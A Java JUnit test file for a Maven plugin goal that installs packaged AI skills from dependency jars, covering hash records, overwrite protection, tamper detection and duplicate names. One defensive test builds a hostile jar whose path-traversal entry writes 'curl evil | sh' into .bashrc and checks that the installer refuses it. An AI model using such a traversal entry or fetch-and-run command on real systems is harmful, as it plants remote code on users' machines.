package dev.skillpack.maven;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.skillpack.core.pack.PackOptions;
import dev.skillpack.core.pack.SkillPackager;
import dev.skillpack.core.parse.SkillParser;
import dev.skillpack.core.source.DirectorySkillSource;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class InstallSkillsGoalTest {
    @TempDir
    Path root;
    final RecordingLog log = new RecordingLog();

    /** A jar as skillpack:package makes it, from one skill with the given SKILL.md. */
    Path jar(String name, String skillText) throws Exception {
        Path source = Files.createDirectories(root.resolve("src-" + name + "-" + skillText.hashCode() + "/release-notes"));
        Files.writeString(source.resolve("SKILL.md"), skillText);
        Files.createDirectories(source.resolve("references"));
        Files.writeString(source.resolve("references/format.md"), "# Format\n\nOne line per change.\n");
        SkillPackager packager = SkillPackager.create(PackOptions.defaults(PackageGoalTest.STAMP));
        byte[] bytes = packager.classpathJar(packager.prepareAll(SkillParser.create().parsePack(
                DirectorySkillSource.of(source.getParent()))));
        return Files.write(root.resolve(name + ".jar"), bytes);
    }

    Path skills() {
        return root.resolve("project/.claude/skills");
    }

    List<String> install(List<Path> jars, Set<String> only, boolean overwrite) throws SetupException {
        return new InstallSkillsGoal(log).run(root.resolve("project"), skills(), jars.stream()
                .map(j -> new InstallSkillsGoal.Dependency(j, "com.acme:" + j.getFileName().toString()
                        .replace(".jar", "") + ":1.0")).toList(), only, overwrite);
    }

    @Test
    void installsEveryFileTheIndexListsAndKeepsARecord() throws Exception {
        Path jar = jar("notes", PackageGoalTest.CLEAN);
        assertThat(install(List.of(jar), Set.of(), false)).containsExactly("release-notes");
        assertThat(skills().resolve("release-notes/SKILL.md")).hasContent(PackageGoalTest.CLEAN);
        assertThat(skills().resolve("release-notes/references/format.md")).isRegularFile();
        assertThat(Files.readAllLines(skills().resolve(InstallSkillsGoal.RECORD))).hasSize(3)
                .element(1).asString().matches("release-notes [0-9a-f]{64} SKILL.md");
        assertThat(log.lines).containsExactly("[INFO] skillpack: installed release-notes from com.acme:notes:1.0 "
                + "into .claude/skills/release-notes (2 files)");

        log.lines.clear();
        install(List.of(jar), Set.of(), false);
        assertThat(log.lines).containsExactly("[INFO] skillpack: .claude/skills/release-notes is up to date "
                + "(release-notes from com.acme:notes:1.0)");
    }

    @Test
    void aNewVersionReplacesAnUntouchedSkillButNotALocallyChangedOne() throws Exception {
        install(List.of(jar("notes", PackageGoalTest.CLEAN)), Set.of(), false);
        Path newer = jar("notes", PackageGoalTest.CLEAN + "\nGroup them by label.\n");
        install(List.of(newer), Set.of(), false);
        assertThat(skills().resolve("release-notes/SKILL.md")).content().endsWith("Group them by label.\n");

        Files.writeString(skills().resolve("release-notes/SKILL.md"), "my own notes\n");
        Files.writeString(skills().resolve("release-notes/mine.md"), "mine\n");
        Path newest = jar("notes", PackageGoalTest.CLEAN + "\nSort them.\n");
        assertThatThrownBy(() -> install(List.of(newest), Set.of(), false)).isInstanceOf(SetupException.class)
                .hasMessage("not overwritten: .claude/skills/release-notes (changed locally: ~SKILL.md, +mine.md). "
                        + "Keep your version, move it away, or set overwrite (-Dskillpack.overwrite) to replace it");
        assertThat(skills().resolve("release-notes/SKILL.md")).hasContent("my own notes\n");

        log.lines.clear();
        install(List.of(newest), Set.of(), true);
        assertThat(skills().resolve("release-notes/SKILL.md")).content().endsWith("Sort them.\n");
        assertThat(skills().resolve("release-notes/mine.md")).doesNotExist();
        assertThat(log.lines.get(0)).isEqualTo("[WARNING] skillpack: replacing .claude/skills/release-notes although "
                + "changed locally: ~SKILL.md, +mine.md, because overwrite is set");
    }

    @Test
    void aFolderSkillpackDidNotInstallIsLeftAlone() throws Exception {
        Files.createDirectories(skills().resolve("release-notes"));
        Files.writeString(skills().resolve("release-notes/SKILL.md"), "hand-written\n");
        assertThatThrownBy(() -> install(List.of(jar("notes", PackageGoalTest.CLEAN)), Set.of(), false))
                .hasMessageStartingWith("not overwritten: .claude/skills/release-notes (it was not installed by "
                        + "skillpack)");
    }

    @Test
    void aFileThatDoesNotMatchTheIndexIsRefusedBeforeAnythingIsWritten() throws Exception {
        Path jar = jar("notes", PackageGoalTest.CLEAN);
        Path tampered = root.resolve("tampered.jar");
        try (ZipFile in = new ZipFile(jar.toFile());
             ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(tampered))) {
            for (ZipEntry entry : Collections.list(in.entries())) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                byte[] bytes = in.getInputStream(entry).readAllBytes();
                out.write(entry.getName().endsWith("release-notes/SKILL.md")
                        ? PackageGoalTest.CLEAN.replace("merged", "MERGED").getBytes() : bytes);
                out.closeEntry();
            }
        }
        assertThatThrownBy(() -> install(List.of(tampered), Set.of(), false)).isInstanceOf(SetupException.class)
                .hasMessage("com.acme:tampered:1.0: META-INF/resources/skills/release-notes/SKILL.md does not match its "
                        + "SHA-256 in the skill index; the jar is damaged or was changed after packaging");
        assertThat(skills()).doesNotExist();
    }

    @Test
    void jarsWithoutSkillsAreIgnoredAndUnknownOrDuplicateNamesAreNamed() throws Exception {
        Path plain = root.resolve("plain.jar");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(plain))) {
            out.putNextEntry(new ZipEntry("META-INF/MANIFEST.MF"));
            out.write("Manifest-Version: 1.0\n".getBytes());
        }
        assertThat(install(List.of(plain), Set.of(), false)).isEmpty();
        assertThat(log.lines).containsExactly("[INFO] skillpack: no dependency carries skills (1 jar looked at); "
                + "nothing to install");

        Path notes = jar("notes", PackageGoalTest.CLEAN);
        assertThatThrownBy(() -> install(List.of(plain, notes), Set.of("pdf-forms"), false))
                .hasMessage("skills: no dependency carries pdf-forms; the dependencies carry release-notes");
        Path again = jar("again", PackageGoalTest.CLEAN);
        assertThatThrownBy(() -> install(List.of(notes, again), Set.of(), false))
                .hasMessage("two dependencies carry a skill named 'release-notes': com.acme:notes:1.0 and "
                        + "com.acme:again:1.0; exclude one of them from the dependencies");
    }

    @Test
    void aJarWithAnEntryThatClimbsOutIsRefusedWholeByTheHardenedReader() throws Exception {
        Path jar = jar("notes", PackageGoalTest.CLEAN);
        Path hostile = root.resolve("hostile.jar");
        try (ZipFile in = new ZipFile(jar.toFile());
             ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(hostile))) {
            for (ZipEntry entry : Collections.list(in.entries())) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                out.write(in.getInputStream(entry).readAllBytes());
                out.closeEntry();
            }
            out.putNextEntry(new ZipEntry("META-INF/resources/skills/../../../../.bashrc"));
            out.write("curl evil | sh\n".getBytes());
            out.closeEntry();
        }
        assertThatThrownBy(() -> install(List.of(hostile), Set.of(), false)).isInstanceOf(SetupException.class)
                .hasMessage("com.acme:hostile:1.0!/META-INF/resources/skills/../../../../.bashrc: archive entry holds "
                        + "a '.', '..' or empty path segment; it was not read; nothing was installed from "
                        + "com.acme:hostile:1.0");
        assertThat(skills()).doesNotExist();
        assertThat(root.resolve(".bashrc")).doesNotExist();
    }
}
